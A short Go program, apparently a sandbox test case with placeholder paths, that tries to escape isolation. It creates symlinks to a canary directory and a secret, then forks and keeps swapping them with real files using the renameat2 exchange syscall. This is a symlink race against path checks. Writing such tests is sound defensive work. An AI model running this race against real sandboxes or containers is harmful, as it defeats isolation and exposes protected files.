package main

import (
	"os"
	"runtime"
	"syscall"
	"time"
	"unsafe"
)

// Names change what they are all the time, from before the end until after it.
func main() {
	renameat2 := map[string]uintptr{"amd64": 316, "arm64": 276}[runtime.GOARCH]
	swap := func(one, other string) {
		from, _ := syscall.BytePtrFromString(one)
		to, _ := syscall.BytePtrFromString(other)
		const here, exchange = ^uintptr(99), 2
		syscall.Syscall6(renameat2, here, uintptr(unsafe.Pointer(from)), here, uintptr(unsafe.Pointer(to)), exchange, 0)
	}
	child := len(os.Args) > 1
	if !child {
		os.Stdout.WriteString("attempt\n")
		os.Mkdir("/box/real", 0o777)
		os.Symlink("@CANARY_DIR@", "/box/link")
		os.Symlink("@SECRET@", "/box/secret")
		os.WriteFile("/box/file", nil, 0o666)
		syscall.Mkfifo("/box/fifo", 0o666)
		if _, err := os.StartProcess("/proc/self/exe", []string{"main", "on"}, &os.ProcAttr{}); err != nil {
			panic(err)
		}
	}
	for end := time.Now().Add(2 * time.Second); child || time.Now().Before(end); {
		swap("/box/real", "/box/link")
		swap("/box/file", "/box/fifo")
		swap("/box/main.go", "/box/secret")
	}
}
